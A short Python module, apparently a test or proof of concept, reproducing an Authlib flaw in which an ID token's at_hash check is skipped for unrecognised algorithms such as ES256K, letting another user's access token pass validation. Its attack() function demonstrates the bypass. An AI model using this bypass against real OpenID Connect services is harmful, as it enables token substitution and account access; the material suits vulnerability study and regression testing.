"""The binding of an access token to the ID token is skipped.

`at_hash` in an ID token is a hash of the access token that came with it.
For an algorithm whose hash Authlib does not know, ES256K for one, it had
nothing to compare, and before 1.6.9 nothing to compare meant equal.  So
somebody else's access token can be slipped in.  The provider must sign
with such an algorithm.  CVE-2026-28498.
"""

from authlib.jose import JsonWebToken
from authlib.jose.errors import JoseError
from authlib.oidc.core import CodeIDToken
from authlib.oidc.core.util import create_half_hash
from by_hand import KEYS

REFUSALS = (JoseError,)
OWN, STOLEN = "alice's access token", "mallory's access token"


def enters(algorithm: str, key: str, access_token: str) -> bool:
    """Sign an ID token for `OWN`; present it with `access_token`."""
    claims = {"sub": "alice", "iss": "https://idp.test", "aud": "bank"}
    claims |= {"exp": 2**40, "iat": 1, "at_hash": half_hash()}
    signer = JsonWebToken([algorithm])
    token = signer.encode({"alg": algorithm}, claims, KEYS[key])
    read = signer.decode(
        token,
        KEYS[f"{key}_public"],
        claims_cls=CodeIDToken,
        claims_params={"access_token": access_token},
    )
    read.validate()
    return read["sub"] == "alice"


def half_hash() -> str:
    return create_half_hash(OWN, "RS256").decode()


def honest() -> bool:
    return enters("RS256", "rsa", OWN)


def edited() -> bool:
    return enters("RS256", "rsa", STOLEN)


def attack() -> bool:
    return enters("ES256K", "k1", STOLEN)
